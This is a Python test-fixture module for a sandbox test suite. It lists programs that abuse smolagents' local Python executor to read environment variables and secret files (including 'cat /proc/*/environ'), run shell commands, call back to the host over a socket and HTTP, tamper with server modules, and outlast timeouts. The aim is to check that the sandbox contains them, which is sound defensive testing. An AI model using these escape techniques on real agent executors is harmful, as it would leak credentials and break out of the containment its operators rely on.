# ruff: noqa: E501 - whole programs in strings
"""What programs do that an agent framework executes in its own process.

The framework (smolagents) is no wall: these get through it, and must not get through the sandbox.
"""

from __future__ import annotations

from envserver import SandboxLimits

from .program import Hostile

LIMITS = SandboxLimits(wall_seconds=4, cpu_seconds=4, memory_mb=512, output_kb=256)
START = """\
from smolagents.local_python_executor import LocalPythonExecutor
agent = LocalPythonExecutor(additional_authorized_imports=[], timeout_seconds=None)
agent.send_tools({})
def try_it(code):
    try:
        answer = agent(code)
        os.write(1, str(getattr(answer, "output", answer)).encode()[:60000])
    except Exception as error:
        os.write(1, repr(error).encode()[:2000])
"""


def agent(name: str, must: str, source: str, **more: object) -> Hostile:
    return Hostile(
        name=name,
        must=must,
        source=START + source,
        limits=LIMITS,
        needs="smolagents",
        preload=("smolagents.local_python_executor",),
        **more,  # type: ignore[arg-type]
    )


PROGRAMS = [
    agent(
        "environment by a format string",
        "holds nothing of the server's",
        "try_it(\"import random\\n'{0._os.environ}'.format(random)\")",
    ),
    agent(
        "commands by a module of a module",
        "run inside the sandbox only",
        """\
try_it("import random\\nrandom._os.system('cat %s; env')" % SECRET_FILE)
agent = LocalPythonExecutor(additional_authorized_imports=["*"])
agent.send_tools({})
try_it("import os\\nos.system('cat %s; cat /proc/*/environ; touch %s/%s')" % (SECRET_FILE, FOLDER, MARK))
""",
    ),
    agent(
        "words of the server changed",
        "the server does not notice",
        """\
try_it("import random\\nsetattr(random, 'random', lambda: 4)")
try_it("import statistics\\nstatistics.sys.modules.clear()")
print("honest", flush=True)
sys.exit(3)
""",
        ends=("exit 3", "exit 1"),
    ),
    agent(
        "files by a subclass",
        "only those of the sandbox",
        """\
agent = LocalPythonExecutor(additional_authorized_imports=["pathlib", "io"])
agent.send_tools({"open": open})
try_it(f"import pathlib\\npathlib.Path({SECRET_FILE!r}).read_text()")
try_it(f"open({SECRET_FILE!r}).read()")
try_it(f"open({WRITABLE_FILE!r}, 'w').write('x')")
""",
    ),
    agent(
        "a call to the host",
        "the host hears nothing",
        """\
agent = LocalPythonExecutor(additional_authorized_imports=["socket", "urllib.request"])
agent.send_tools({})
try_it(f"import socket\\nsocket.create_connection(('127.0.0.1', {PORT}), 1).send({MARK!r}.encode())")
try_it(f"import urllib.request\\nurllib.request.urlopen('http://127.0.0.1:{PORT}/{MARK}', timeout=1)")
""",
    ),
    agent(
        "a pause that no time limit of the framework ends",
        "is killed when its time is over",
        """\
agent = LocalPythonExecutor(additional_authorized_imports=["time"], timeout_seconds=1)
agent.send_tools({})
try_it("import time\\ntime.sleep(60)")
""",
        ends=("wall",),
    ),
]
